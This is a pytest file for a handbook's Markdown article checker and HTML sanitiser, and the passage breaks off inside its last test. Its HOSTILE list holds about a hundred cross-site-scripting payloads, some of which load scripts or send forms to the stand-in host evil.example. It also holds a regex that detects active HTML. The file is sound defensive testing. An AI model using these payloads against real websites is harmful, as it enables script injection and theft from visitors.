"""The rules for articles: each problem with file and line, and hostile HTML refused twice over.

The disguises are those of public collections of cross-site-scripting tests (capitals, entities, line ends and
tabs inside a word, other containers), written anew here; “evil.example” is a reserved name.
"""

from __future__ import annotations

import os
import re
import time
from collections.abc import Iterator
from pathlib import Path, PurePosixPath

import markdown
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mkdocs.structure.files import File
from mkdocs.theme import Theme
from mkdocs.utils.meta import get_data

from build_scripts.authoring.allowed_html import (
    AUTHOR_CLASSES,
    BOXES,
    clean_page,
    find_scheme,
    is_author_id,
    is_own_address,
    make_heading_id,
)
from build_scripts.authoring.articles import check_article, check_articles
from build_scripts.authoring.files import (
    OWN_NAMES,
    find_collisions,
    find_portable_place,
    find_served_place,
)
from build_scripts.authoring.front_matter import KEYS, split_front_matter
from tests.calculators.sample import register_sample
from tests.conftest import ROOT

EXTENSIONS = [
    "build_scripts.authoring.extension",
    "admonition",
    "attr_list",
    "def_list",
    "tables",
    "toc",
    "pymdownx.details",
    "pymdownx.superfences",
]

PNG = b"\x89PNG\r\n\x1a\n"

# What a browser would run or fetch: an element, a handler, an address.
ACTIVE = re.compile(
    r"<\s*/?\s*(?:script|iframe|object|embed|svg|math|form|input|button|textarea|select|style|link|meta|base|template|"
    r"video|audio|source|frame|applet|marquee|foreignobject|animate|use)\b"
    r"|<[^>]*[\s/\"']on[a-z]+\s*="
    r"|<[^>]*\b(?:href|src|action|xlink:href|srcset|poster|data)\s*=\s*[\"']?[\s\x00-\x20]*(?:javascript|vbscript|data)\s*:"
    r"|<img[^>]*\bsrc\s*=\s*[\"']?\s*(?:[a-z]+:|[\\/]{2})"
    r"|<[^>]*\bstyle\s*=\s*[\"'][^\"']*url",
    re.IGNORECASE,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "</script><script>alert(1)</script>",
    "text <b onclick=alert(1)>x</b>",
    "<b/onmouseover=alert(1)>x</b>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x ONERROR='alert(1)'>",
    '<p title="x" onpointerenter="alert(1)">x</p>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="&#1;javascript:alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java&#x73;cript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](<data:text/html;base64,PHNjcmlwdD4=>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]:\n    javascript:alert(1)\n\n[r]",
    "[x]: <javascript:alert(1)>\n[x]",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=x></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=x></object>",
    "<embed src=x>",
    "<form action=https://evil.example><input></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>@import '//evil.example/x'</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<video src=https://evil.example/x></video>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<plaintext>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--> <script>alert(1)</script>",
    "<!-- a --!> <script>alert(1)</script> -->",
    "a <!-- b\n\n<script>alert(1)</script>",
    "![x](https://evil.example/a.png)",
    "![x](//evil.example/a.png)",
    "![x](\\/\\/evil.example/a.png)",
    "![x](////evil.example/a.png)",
    "![x](/\\evil.example/a.png)",
    "![x](https&#58;//evil.example/a.png)",
    "![x](&#104;ttps://evil.example/a.png)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](<https://evil.example/x y>)",
    "![x](\nhttps://evil.example/x)",
    "![a [b] c](https://evil.example/x)",
    "[![a](https://evil.example/x)](https://good.example)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "![r][]\n\n[r]: https://evil.example/a.png",
    "![r]\n\n[r]: https://evil.example/a.png",
    "![R\nx]\n\n[r x]: https://evil.example/a.png",
    "> [r]: https://evil.example/x\n\n![r]",
    "<img src='https://evil.example/x'>",
    "<img src=' https://evil.example/x'>",
    "<img src='\\\\evil.example/x'>",
    "<img src='/\\evil.example/x'>",
    "<img src=x srcset='https://evil.example/x 2x'>",
    "# Head {onclick=alert(1)}",
    "# Head {: onclick='alert(1)' .x}",
    'Words\n{: onclick="alert(1)" }',
    'Words\n{: title="}" onclick=alert(1) }',
    '![x](a.png){: style="background:url(//evil.example)" }',
    '![x](a.png){ srcset="https://evil.example/a.png" }',
    '![x](a.png){: src="https://evil.example/x" }',
    '[x](a.md){: href="javascript:alert(1)" }',
    "[x](a.md){: ping=https://evil.example }",
    "``` {.python onclick=alert(1)}\nx\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "| a |\n|---|\n| ![x](https://evil.example/x) |",
    "- one\n- <iframe src=x></iframe>",
    "1. one\n\n    <script>alert(1)</script>",
    "!!! note\n    <svg onload=alert(1)></svg>",
    "??? note\n    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "term\n:   <script>alert(1)</script>",
    "\\`<script>alert(1)</script>\\`",
    "`<script>alert(1)</script>",
    "`a <b>` <script>alert(1)</script>",
    "a ` b\n\n<script>alert(1)</script>\n\nc ` d",
    "- ` a\n- c ` d ` <script>alert(1)</script> ` e",
    "`foo\nbar` <script>alert(1)</script> `baz`",
    "```\n<script>alert(1)</script>",
    "``` a b c\n\n<script>alert(1)</script>\n\n```",
    "    ```\n<script>alert(1)</script>\n    ```",
    "```\n<b>\n    ```\n\n<script>alert(1)</script>\n",
    "a\u2028```\u2028\n<script>alert(1)</script>\n\u2028```",
    "```\x0b\n<script>alert(1)</script>",
]


@pytest.fixture(autouse=True, scope="module")
def sample_registered() -> Iterator[None]:
    with register_sample():
        yield


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_articles_are_refused_with_a_line(text: str) -> None:
    problems = check_article(text)
    assert problems
    assert all(1 <= line <= text.count("\n") + 1 and len(words) > 20 for line, words in problems)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_slips_past_the_check_does_not_survive_in_the_page(text: str) -> None:
    html = markdown.markdown(text, extensions=EXTENSIONS)
    assert not ACTIVE.search(html), html
    assert not ACTIVE.search(clean_page(text)), clean_page(text)


def test_the_net_of_these_tests_catches_what_it_should() -> None:
    for html in (
        "<script>",
        "<p onclick=x>",
        "<p title='a'onclick=x>",
        "<a href='javascript:x'>",
        '<a href=" data:x">',
        "<img src='//x'>",
        "<img alt='a' src=\"https://x\">",
        '<td style="background:url(x)">',
        "<svg/onload=x>",
    ):
        assert ACTIVE.search(html), html
    assert not ACTIVE.search("<p>on = 3, &lt;script&gt; <a href='#c'>javascript: is a word</a></p>")


HARMLESS = [
    "Plain words, a < b, c > d, x<3, 5 <6, a & b, <https://good.example>, <mail@good.example>.",
    "`<script>` and ``a ` <b onclick>`` shown as code.",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n<svg onload=x>\n~~~",
    '- item\n\n    ```python title="x.py"\n    a < b\n    ```',
    '``` {.python hl_lines="1" title="x"}\nx\n```',
    "<!-- a comment with <b>tags</b>\nin two lines -->",
    "<details open><summary>More</summary>\n\nWords\n\n</details>",
    "<kbd>Ctrl</kbd> H<sub>2</sub>O <abbr title='light-emitting diode'>LED</abbr><br>",
    "[page](../other.md#part) [site](https://good.example) [mail](mailto:mail@good.example) [phone](tel:123)",
    '![A plug](plug.png){ width="300" loading=lazy .grid #plug }',
    "# Heading { #anchor .grid }",
    "R = U / I, {x} and R_{1} + R_{2}",
    "[x][r]\n\n[r]: https://good.example",
    "| a | b |\n|:--|--:|\n| `|` | 2 |",
    "# Head\n\nJavascript: a word. data: another.",
    "set {a=1, b=2}",
    "I = {V = 5} / R and {onclick = 1} in words",
    "\\![x](https://good.example) and \\![x][r]\n\n[r]: https://good.example",
    "---\ndescription: 'A 1/2\" bolt & its nut'\ntitle: Bolts\nauthor: A club\n---\n# Bolts",
    '---\ndescription: "How it works: a guide"\n...\n\n# A',
    "---\ndescription: >\n  two\n  lines\n---\n# A",
    "# The `<script>` tag, R &lt; 1 and &lt;b&gt;",
    "A word\u200f of Hebrew: שלום",
    "> ```py\n> x\n> ```",
    "``` calc\nx\n```",
    "``` calculator\nsample-drop: Größe\n```\n\n``` calculator\nsample-drop: Grüße\n```",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_articles_pass(text: str) -> None:
    assert check_article(text) == []


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ("a\n\nb <u onclick=x>", 3, "<u> may not have “onclick”; allowed: class, id, lang, title"),
        ("a\r\n\r\n<iframe>", 3, "the HTML tag <iframe> is not allowed in an article; allowed: a, abbr"),
        ("a\rb\r<iframe>", 3, "<iframe>"),
        (
            "---\ntitle: x\n---\n\n[x](ftp://a.example)",
            5,
            "a link may not begin with “ftp:”; allowed: http, https, mailto, tel and pages",
        ),
        ("```\n<b>\n```\n\n![x](//evil.example)", 5, "the picture “//evil.example” comes from another place"),
        ("[^a]: javascript:alert(1)\n\n[^a]", 1, "a link may not begin with “javascript:”"),
        ("a\n\n[x](`javascript:alert(1)`)", 3, "stands between round brackets as it is, without backticks"),
        ("[x]: `a.md`\n\n[x]", 1, "stands between round brackets as it is, without backticks"),
        ("# Head {title='a} {onclick=x}", 1, "“onclick” may not be set in braces"),
        ("a\n```\nb", 2, "this fence is never closed; end it with the same marks on a line"),
        ("``` one two\nb\n```", 1, "“one two” after the marks is not read; write one language name"),
        ("  ```\nb\n  ```", 1, "lines of this fence stand further left than its first line"),
        ("```\nb\n  ```", 1, "the last line of this fence (line 3) is indented otherwise than its first"),
        (
            "a\n\n> ``` calculator\n> sample-drop: Lead\n> ```",
            3,
            "a calculator fence cannot stand in a quotation",
        ),
        ("a <!-- b\n\nc -->", 1, "begins a comment that is not closed by “-->” in its paragraph"),
        (
            "<p class='grid sl-block'>x</p>",
            1,
            "the class “sl-block” is not for articles; allowed: abstract, ",
        ),
        ("# Head {.sl-form}", 1, "the class “sl-form” is not for articles"),
        ("# Head {: class='grid sl-form'}", 1, "the class “sl-form” is not"),
        ("a\n\n[x](#y){ .md-consent__overlay }", 3, "the class “md-consent__overlay” is not for articles"),
        ("<p class=wide>x</p>", 1, "the class “wide” is not for articles"),
        ("# Head {#__config}", 1, "the id “__config” may be one that the calculators, the theme or a script"),
        ("<p id=__config>x</p>", 1, "the id “__config” may be one"),
        ("# Head {#handbookWorkers}", 1, "the id “handbookWorkers” may be one"),
        ("a\n\nb\n{: #md-top }", 4, "the id “md-top” may be one"),
        ("<p id=c-feed-current>x</p>", 1, "the id “c-feed-current” may be one"),
        ("<p id=''>x</p>", 1, "an id needs a name"),
        (
            "a\n\n!!! note md-consent__overlay\n    x",
            3,
            "there is no box “md-consent__overlay”; allowed: abstract",
        ),
        ('??? md-banner "More"\n\n    x', 1, "there is no box “md-banner”; allowed: abstract, bug, danger"),
        ("1. one\n\n    ???+ Md-banner\n\n        x", 3, "there is no box “md-banner”"),
        ("> !!! sl-block", 1, "there is no box “sl-block”"),
        ("``` {.python .md-banner}\nx\n```", 1, "the class “md-banner” is not for articles"),
        ("[x](http://[)", 1, "“http://[” is not an address; mend or remove the link"),
        ("Head {onclick=x}\n====", 1, "“onclick” may not be set in braces"),
        ("| a {onclick=x} | b |\n|---|---|", 1, "“onclick” may not be set in braces"),
        ("# Head `x` {onclick=x}", 1, "“onclick” may not be set in braces"),
        ("some `x`{onclick=x} words", 1, "“onclick” may not be set in braces"),
        ("Term {onclick=x}\n:   meaning", 1, "“onclick” may not be set in braces"),
        ("- item\n{onclick=x}", 2, "“onclick” may not be set in braces"),
        (
            "# Feed {#c-feed}\n\n``` calculator\nsample-drop: Feed\n```",
            1,
            "the id “c-feed” is that of the block in line 3",
        ),
        (
            "<p id=c-feed>x</p>\n\n``` calculator\nsample-drop: Feed\n```",
            1,
            "the id “c-feed” is that of the block",
        ),
        (
            "a\n\n<details><summary>More</summary>\n\nwords",
            3,
            "<details> is never closed and would take in what follows; write",
        ),
        ("<p><b>x</p>", 1, "<b> is never closed"),
        ("a\nwords</b>", 2, "</b> closes nothing; remove it, or write <b> before it"),
        (
            "a\n<a href='other.md'>x</a>",
            2,
            "the link “other.md” stands in HTML, where nobody follows it; write it as [words](other.md)",
        ),
        ("<a href='#part'>x</a>", 1, "write it as [words](#part)"),
        (
            "<img src='plug.png' alt='A plug'>",
            1,
            "a picture is not written as <img> but as ![what it shows](file.png)",
        ),
        ("![x](<  //evil.example/x >)", 1, "the picture “//evil.example/x” comes from another place"),
        ("- [x]: javascript:alert(1)\n\n[x]", 1, "a link may not begin with “javascript:”"),
        (":   [x]: javascript:alert(1)", 1, "a link may not begin with “javascript:”"),
        ("1. > [x]: javascript:alert(1)", 1, "a link may not begin with “javascript:”"),
        ("[x]: javascript:alert(1)\n\n[x]: fine.md\n\n[x]", 1, "a link may not begin with “javascript:”"),
        (
            "# A\n\nabc\u202edef",
            3,
            "the invisible sign U+202E turns round how the words after it are shown; remove it",
        ),
        (
            "# A\n\nabc\x00def",
            3,
            "here is a control character, U+0000; remove it, and save the file as UTF-8 text",
        ),
        (
            "``` Calculator\nx\n```",
            1,
            "“Calculator” is not computed but shown; write “calculator” after the marks",
        ),
        ("a\n\n~~~ calculater\nx\n~~~", 3, "“calculater” is not computed but shown"),
        ("``` {.calculator}\nx\n```", 1, "“{.calculator}” is not computed but shown"),
        (
            "- ``` calculator\n  sample-drop: A\n  ```\n\nwords",
            1,
            "a fence cannot begin on the line of a list's mark; give it a line of its own",
        ),
        ("1. ```py\n   x\n   ```", 1, "a fence cannot begin on the line of a list's mark"),
        (
            "a\n\n- > ``` calculator\n  > sample-drop: A\n  > ```",
            3,
            "a calculator fence cannot stand in a quotation",
        ),
        (
            "<details><summary>a</summary>\n\n``` calculator\nsample-drop: A\n```\n\n</details>",
            3,
            "this calculator stands within HTML or a comment",
        ),
        (
            "<p>\n``` calculator\nsample-drop: A\n```\n</p>",
            2,
            'write “??? note "More"” with the fence four spaces in',
        ),
        (
            "---\ndescription: How it works: a guide\n---\n# A",
            2,
            "put the words between quotation marks, such as",
        ),
        (
            "---\ndescription: x\n\n# A",
            1,
            "the settings that begin here never end; write “---” on a line of its own",
        ),
        ("---\ndescription: x\n---", 1, "the settings that begin here never end"),
        (
            "---\njust words\n---\n# A",
            2,
            "between the lines “---” stand settings, one “name: words” a line; allowed: author",
        ),
        (
            "---\ntitle: a\nicon: nope/none\n---\n# A",
            3,
            "an article has no setting “icon”; allowed: author, description, title",
        ),
        ("---\ntemplate: nope.html\n---\n# A", 2, "an article has no setting “template”"),
        ("---\nhide: 5\n---\n# A", 2, "an article has no setting “hide”"),
        ("---\n? [a]\n: b\n---\n# A", 2, "an article has no setting"),
        ("---\ntitle: [a, b]\n---\n# A", 2, "“title” is not plain words; write them between quotation marks"),
        ("---\ntitle: 2024\n---\n# A", 2, "“title” is not plain words"),
        ("---\ntitle:\n---\n# A", 2, "“title” is not plain words"),
        ("---\ntitle: a\ntitle: b\n---\n# A", 3, "“title” is given twice; keep one"),
        (
            '---\ntitle: "T \\x3cscript\\x3e"\n---\n# A',
            2,
            "“title” holds “<”, which belongs to HTML; say it in words",
        ),
        ('---\ndescription: "\\x22\\x3e"\n---\n# A', 2, "“description” holds “>”"),
        ('---\nauthor: "\\u202eabc"\n---\n# A', 2, "the invisible sign U+202E"),
        ("---\ntitle: \x1b\n---\n# A", 2, "these settings cannot be read; write them anew"),
        (
            "title: `<script>alert(1)</script>`\n\n# A",
            1,
            "“title:” at the very top is taken for a setting and would be lost",
        ),
        ("---\ndescription: |\n  ```\n---\n\n<script>\n\n```\nx\n```", 6, "<script>"),
        ("# H {: data-embedding=0}", 1, "“data-embedding” may not be set in braces"),
        ("Words\n\n``` calculator\nsample-drop: Lead\n\ncurrent = 3 m\n```", 6, "current: “3 m” is a length"),
        (
            "---\na: b\n---\r\n\r\n``` calculator\r\nsample-drop: Lead\r\ncurent = 3\r\n```",
            7,
            "did you mean “current”?",
        ),
        ("!!! note\n    ``` calculator\n    sample-drop: Lead\n    current = x\n    ```", 4, "current: “x”"),
        ("- item\n\n    ~~~ calculator\n    sample-drop: Lead", 3, "this calculator fence is never closed"),
        (
            "``` calculator\nsample-drop: A lead\n```\n\n``` calculator\nsample-drop: a LEAD!\n```",
            5,
            "the caption “a LEAD!” gives the same link as the block in line 1; give each block a caption",
        ),
    ],
)
def test_a_problem_is_named_with_its_line(text: str, line: int, words: str) -> None:
    problems = check_article(text)
    assert [(found, sentence) for found, sentence in problems if found == line and words in sentence], (
        problems
    )


def test_a_fence_shown_inside_a_longer_one_is_left_alone() -> None:
    assert check_article("````\n``` calculator\nno-such: thing\n```\n````") == []
    assert check_article("~~~\n``` calculator\nno-such: thing\n```\n~~~") == []


def test_all_files_are_checked_and_named(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    (docs / "deep").mkdir(parents=True)
    (docs / "b.md").write_text("fine\n\n<script>\n", "utf-8")
    (docs / "deep" / "a.md").write_bytes(b"one\r\ntwo\r\n\r\n<iframe>\r\n")
    (docs / "c.md").write_bytes(b"one\n\xff\n")
    (docs / "mark.md").write_bytes(b"\xef\xbb\xbf``` calculator\nsample-drop: Lead\ncurrent = x\n```\n")
    (docs / "page.html").write_text("<script>alert(1)</script>", "utf-8")
    (docs / "run.js").write_text("alert(1)", "utf-8")
    (docs / "drawn.svg").write_text("<svg/>", "utf-8")
    (docs / "other.markdown").write_text("<script>", "utf-8")
    (docs / "photo.png").write_bytes(PNG)
    (docs / ".hidden").write_text("x", "utf-8")
    (docs / ".editor").mkdir()
    (docs / ".editor" / "run.js").write_text("x", "utf-8")
    (docs / "folder.md").mkdir()
    told = [str(problem) for problem in check_articles(docs, tmp_path)]
    assert [line.split(": ")[0] for line in told] == [
        "docs/b.md:3",
        "docs/c.md:2",
        "docs/deep/a.md:4",
        "docs/drawn.svg:1",
        "docs/mark.md:3",
        "docs/other.markdown:1",
        "docs/page.html:1",
        "docs/run.js:1",
    ]
    assert "this is not UTF-8 text; save the file as UTF-8" in told[1]
    assert "files of this kind may not lie among the articles; allowed: .md, .png" in told[-1]


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("photo.JPG", b"\xff\xd8\xff\xe0", "endings are in small letters; call this file photo.jpg"),
        ("program.png", b"\x7fELF", "this is not what a file ending in .png holds"),
        ("page.gif", b"<script>alert(1)</script>", "this is not what a file ending in .gif holds"),
        ("page.webp", b"RIFF", "this is not what a file ending in .webp holds"),
        ("page.avif", b"\x00\x00\x00\x20ftypheic", "this is not what a file ending in .avif holds"),
        ("page.pdf", b"%!PS", "this is not what a file ending in .pdf holds"),
        ("table.csv", b"a,b\x00", "this is not what a file ending in .csv holds"),
        (
            "big.png",
            PNG + b"0" * 2_000_000,
            "this file has 2.0 MB, and every reader's device keeps a copy; allowed: 2 MB",
        ),
        ("my photo.png", PNG, "this name becomes an address; use letters, digits, “-”, “_” and “.” only"),
        ("<img src=x onerror=alert(1)>.md", b"x", "this name becomes an address"),
        ("a&quot;b.md", b"x", "this name becomes an address"),
        ("-a.md", b"x", "this name becomes an address"),
        ("con.md", b"x", "Windows can have no file of this name"),
        ("Aux.tail.md", b"x", "Windows can have no file of this name"),
        ("COM1.png", PNG, "Windows can have no file of this name"),
        ("a.html.md", b"x", "“.html” is how pages end; give it another, without it"),
        ("tail.HTML.csv", b"x", "“.html” is how pages end"),
        (
            "a.heic",
            b"\x00\x00\x00\x20ftypheic",
            "browsers cannot show a picture of this kind; save it as .jpg",
        ),
        ("a.TIFF", b"II*\x00", "browsers cannot show a picture of this kind"),
        ("a.dng", b"II*\x00", "browsers cannot show a picture of this kind"),
        ("a.svg", b"<svg/>", "save the drawing as .png, because an .svg may hold scripts"),
        (
            "a.jpg",
            b"\x00\x00\x00\x20ftypheic",
            "but a HEIC picture, which browsers cannot show; save it as .jpg",
        ),
        ("b.jpg", b"MM\x00*", "but a TIFF picture, which browsers cannot show"),
        ("c.png", b"8BPS", "but a Photoshop picture, which browsers cannot show"),
        ("d.png", b"\xff\x0a", "but a JPEG XL picture, which browsers cannot show"),
    ],
)
def test_a_file_that_may_not_be_there_is_told_why(tmp_path: Path, name: str, data: bytes, words: str) -> None:
    (tmp_path / name).write_bytes(data)
    (problem,) = check_articles(tmp_path, tmp_path)
    assert (problem.file, problem.line) == (name, 1)
    assert words in problem.text


def test_files_that_are_what_they_say_pass(tmp_path: Path) -> None:
    for name, data in (
        ("a.png", PNG),
        ("b.jpg", b"\xff\xd8\xff\xe0"),
        ("c.jpeg", b"\xff\xd8\xff\xe1"),
        ("d.gif", b"GIF89a"),
        ("e.webp", b"RIFF\x0a\x0a\x0a\x0aWEBP"),
        ("f.avif", b"\x00\x00\x00\x20ftypavif"),
        ("g.pdf", b"%PDF-1.7"),
        ("Größe_2.csv", "a,ß\n".encode() * 50),
        ("h.toml", b""),
    ):
        (tmp_path / name).write_bytes(data)
    assert check_articles(tmp_path, tmp_path) == []


@pytest.mark.parametrize("name", ["console.md", "a.b.png", "nullity.csv", "v1.2-notes.md", "html.md"])
def test_a_name_that_only_looks_odd_passes(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(PNG if name.endswith(".png") else b"x")
    assert check_articles(tmp_path, tmp_path) == []


@pytest.mark.parametrize(
    ("names", "told"),
    [
        (["a.md", "a/index.md"], {"a.md": "a/index.md"}),
        (["a/README.md", "a/index.md"], {"a/README.md": "a/index.md"}),
        (["A.md", "a.md"], {"a.md": "A.md"}),
        (["\u00c4.md", "\u00e4.md"], {"\u00e4.md": "\u00c4.md"}),
        (["Sound/a.md", "sound/b.md"], {"sound/b.md": "Sound/"}),
        (["Sound.md", "sound/b.md"], {"sound/b.md": "Sound/"}),
        (["photo.png", "photo.png.md"], {"photo.png.md": "photo.png"}),
        (["a/index.md", "a/b.md", "b.md", "a.png", "README.md"], {}),
        (["index.md", "readme.md"], {}),
    ],
)
def test_two_files_with_one_address_are_told(tmp_path: Path, names: list[str], told: dict[str, str]) -> None:
    for name in names:
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_bytes(b"")
    assert {path.relative_to(tmp_path).as_posix(): words for path, words in find_collisions(tmp_path)} == {
        name: f"this page would have the same address as {other}; give it another name"
        for name, other in told.items()
    }


@pytest.mark.parametrize("own", sorted(OWN_NAMES))
def test_a_place_of_the_handbooks_own_is_refused(tmp_path: Path, own: str) -> None:
    (tmp_path / own.upper()).mkdir()
    (tmp_path / own.upper() / "a.png").write_bytes(b"")
    (tmp_path / "deep" / own).mkdir(parents=True)
    (tmp_path / f"{own.removesuffix('.html')}.md").write_bytes(b"")
    assert {path.relative_to(tmp_path).as_posix() for path, words in find_collisions(tmp_path)} == {
        own.upper(),
        f"{own.removesuffix('.html')}.md",
    }


@pytest.mark.parametrize("path", ["a.md", "index.md", "README.md", "b/a.md", "b/index.md", "a.b.md", "a.png"])
def test_places_are_those_that_the_generator_gives(path: str) -> None:
    for served, find_place in ((True, find_served_place), (False, find_portable_place)):
        assert str(find_place(PurePosixPath(path))) == File(path, "docs", "site", served).dest_uri


def test_links_to_other_places_are_refused_wherever_they_lead(tmp_path: Path) -> None:
    outside, docs = tmp_path / "outside", tmp_path / "docs"
    for folder in (outside, docs):
        folder.mkdir()
    (outside / "evil.js").write_text("alert(1)", "utf-8")
    (docs / "linked").symlink_to(outside)
    (docs / "host.csv").symlink_to("/etc/hostname")
    (docs / "gone.md").symlink_to(docs / "nowhere.md")
    (docs / "page.html").symlink_to(outside / "evil.js")
    problems = check_articles(docs, tmp_path)
    assert [problem.file for problem in problems] == [
        "docs/gone.md",
        "docs/host.csv",
        "docs/linked",
        "docs/page.html",
    ]
    assert {problem.text for problem in problems} == {
        "this is a link to another place, whose files would be published; put the file itself here"
    }


def test_a_folder_that_the_generator_leaves_out_is_refused(tmp_path: Path) -> None:
    (tmp_path / "deep" / "templates").mkdir(parents=True)
    (tmp_path / "templates").mkdir()
    (problem,) = check_articles(tmp_path, tmp_path)
    assert (problem.file, problem.text) == (
        "templates",
        "a folder “templates” is left out of the handbook; give it another name",
    )


def test_what_is_neither_file_nor_folder_is_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.md")
    (problem,) = check_articles(tmp_path, tmp_path)
    assert problem.text == "this is neither a file nor a folder; remove it"


@pytest.mark.parametrize("text", [text for text in HARMLESS if text.startswith("---")])
def test_settings_are_those_that_the_generator_finds(text: str) -> None:
    body, settings = get_data(text)
    assert settings
    assert set(settings) <= set(KEYS)
    assert body.startswith("# ")
    assert "".join(split_front_matter(text)).endswith(body)


def test_addresses_are_read_as_a_browser_reads_them() -> None:
    for own in ("plug.png", "../a/b.png?x#y", "/plug.png", "#part", "", "a%3Ab/c.png"):
        assert is_own_address(own), own
    for foreign in (
        "//x",
        "///x",
        "\\\\x",
        "/\\x",
        "\t//x",
        "/\t/x",
        "https:x",
        "&#47;/x",
        "http://[",
        "data:x",
        "C:\\x",
    ):
        assert not is_own_address(foreign), foreign
    assert find_scheme(" java\nscript&colon;alert(1)") == "javascript"


def test_classes_and_ids_of_others_do_not_survive_in_a_page() -> None:
    assert clean_page('<p class="sl-block" id="__config">x</p>') == "<p>x</p>"
    assert clean_page('<p class="note md-consent__overlay end">x</p>') == '<p class="note end">x</p>'
    assert clean_page('<p id="handbookWorkers">x</p>') == "<p>x</p>"
    assert clean_page('<p id="c-feed">x</p>') == "<p>x</p>"
    assert clean_page('<p id="tail-lift">x</p>') == '<p id="tail-lift">x</p>'


@pytest.mark.parametrize("name", sorted(AUTHOR_CLASSES))
def test_every_class_that_authors_may_write_reaches_the_page(name: str) -> None:
    assert check_article(f'<p class="{name}">x</p>') == []
    assert clean_page(f'<p class="{name}">x</p>') == f'<p class="{name}">x</p>'


@pytest.mark.parametrize("mark", ["!!!", "???", "???+"])
@pytest.mark.parametrize("name", sorted(BOXES))
def test_every_kind_of_box_may_be_written(mark: str, name: str) -> None:
    assert check_article(f'{mark} {name} inline end "Words: md-banner"\n\n    x') == []


@pytest.mark.parametrize(
    ("name", "allowed"),
    [
        ("tail-lift", True),
        ("12-contacts", True),
        ("größe", True),
        ("battery", True),
        ("battery_1", True),
        ("_1", True),
        ("fn:Note", True),
        ("fnref2:1", True),
        ("", False),
        ("_", False),
        ("_a", False),
        ("__search", False),
        ("handbookWorkers", False),
        ("Größe", False),
        ("c-feed", False),
        ("sl-block", False),
        ("md-top", False),
        ("mermaid", False),
        ("location$", False),
    ],
)
def test_an_id_is_free_or_somebody_elses(name: str, allowed: bool) -> None:
    assert is_author_id(name) is allowed
    made = make_heading_id(name)
    # Without any, Markdown counts: _1, _2 …
    assert made == name if allowed or not name else is_author_id(made)


def test_no_script_looks_for_a_name_that_an_article_may_take() -> None:
    folders = [Path(folder) for folder in Theme(name="material").dirs]
    theme = [path for folder in folders for path in folder.glob("assets/javascripts/*.js")]
    theme += [path for folder in folders for path in folder.glob("partials/javascripts/*.html")]
    own = (ROOT / "build_scripts" / "browser").glob("*.js")
    text = "\n".join(path.read_text("utf-8") for path in theme)
    # Shorter ones are what minifying makes of a script's own.
    looked_up = set(re.findall(r"\btypeof ([\w$]{4,})", text))
    text += "\n".join(path.read_text("utf-8") for path in own)
    looked_up |= set(re.findall(r"\b(?:window|self|globalThis)\.([\w$]+)", text))
    looked_up |= set(re.findall(r"getElementById\([\"']([^\"']+)", text))
    assert {"mermaid", "document$", "getSelection"} <= looked_up
    # Every browser has these, and no element hides what a browser has. Without a secure connection “caches”
    # is missing, and offline.js asks first whether what bears the name can open one.
    standard = {"caches", "document", "fetch", "location", "onmessage", "window"}
    assert {name for name in looked_up if is_author_id(name)} <= standard


@pytest.mark.parametrize(
    ("heading", "expected"),
    [
        ("# Tail lift", "tail-lift"),
        ("# handbookWorkers", "handbookworkers"),
        ("# __search", "h-search"),
        ("# __nav_1_label", "h-nav_1_label"),
        ("# C feed current", "h-c-feed-current"),
        ("# md-top", "h-md-top"),
        ("# Mermaid", "h-mermaid"),
        ("# !?", "_1"),
    ],
)
@pytest.mark.parametrize("order", [1, -1])
def test_no_heading_takes_a_name_that_is_looked_up(heading: str, expected: str, order: int) -> None:
    names = ["toc", "build_scripts.authoring.extension"][::order]
    reader = markdown.Markdown(extensions=names)
    for _ in range(2):
        html = reader.reset().convert(f"{heading}\n\nx\n")
        assert re.findall(r'<h1 id="([^"]*)"', html) == [expected]
        assert [token["id"] for token in reader.toc_tokens] == [expected]  # type: ignore[attr-defined]


def test_what_the_generator_itself_writes_is_kept() -> None:
    html = markdown.markdown(
        "# Head\n\n!!! note\n    x\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "3. three\n\n??? tip\n    y\n\nterm\n:   meaning\n",
        extensions=EXTENSIONS,
    )
    for part in ('<h1 id="head">', 'class="admonition note"', "text-align", "<ol>", "<details", "<dt>"):
